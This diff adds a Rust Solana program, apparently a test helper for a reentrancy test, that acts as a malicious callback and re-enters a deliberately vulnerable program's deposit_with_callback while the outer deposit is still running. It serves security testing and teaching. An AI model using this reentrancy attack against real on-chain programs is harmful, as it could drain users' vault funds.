@@ -0,0 +1,78 @@
+//! # Reentrant Callback (test helper)
+//!
+//! Malicious "callback" program for `tests/reentrancy.rs`. When
+//! `vulnerable_cpi::deposit_with_callback` calls it, it immediately CPIs back
+//! into `deposit_with_callback` with the same amount, naming itself as the
+//! callback again.
+//!
+//! Native `solana_program` entrypoint, no Anchor: it only needs to build one
+//! instruction.
+//!
+//! ## Building
+//! ```bash
+//! cd tests/programs/reentrant_callback
+//! cargo build-sbf --sbf-out-dir ../../../target/deploy
+//! ```
+//! The test loads `target/deploy/reentrant_callback.so`.
+//!
+//! ## Accounts
+//! 0. `[signer, writable]` user
+//! 1. `[writable]` vault
+//! 2. `[]` vulnerable_cpi program
+//! 3. `[]` this program
+//!
+//! ## DO NOT USE IN PRODUCTION
+
+use solana_program::{
+    account_info::AccountInfo,
+    entrypoint,
+    entrypoint::ProgramResult,
+    hash::hash,
+    instruction::{AccountMeta, Instruction},
+    program::invoke,
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+
+solana_program::declare_id!("Ca11back11111111111111111111111111111111111");
+
+entrypoint!(process_instruction);
+
+pub fn process_instruction(
+    program_id: &Pubkey,
+    accounts: &[AccountInfo],
+    data: &[u8],
+) -> ProgramResult {
+    let [user, vault, target, callback] = accounts else {
+        return Err(ProgramError::NotEnoughAccountKeys);
+    };
+    let amount = data
+        .get(..8)
+        .and_then(|bytes| bytes.try_into().ok())
+        .map(u64::from_le_bytes)
+        .ok_or(ProgramError::InvalidInstructionData)?;
+
+    // Anchor instruction data: sighash("global:deposit_with_callback") ++ amount
+    let mut ix_data = hash(b"global:deposit_with_callback").to_bytes()[..8].to_vec();
+    ix_data.extend_from_slice(&amount.to_le_bytes());
+
+    // ❌ Re-enter the caller while its outer deposit is still in flight
+    let ix = Instruction {
+        program_id: *target.key,
+        accounts: vec![
+            AccountMeta::new(*user.key, true),
+            AccountMeta::new(*vault.key, false),
+            AccountMeta::new_readonly(*program_id, false),
+            // Remaining accounts, forwarded to this callback again
+            AccountMeta::new(*user.key, true),
+            AccountMeta::new(*vault.key, false),
+            AccountMeta::new_readonly(*target.key, false),
+            AccountMeta::new_readonly(*program_id, false),
+        ],
+        data: ix_data,
+    };
+    invoke(
+        &ix,
+        &[user.clone(), vault.clone(), target.clone(), callback.clone()],
+    )
+}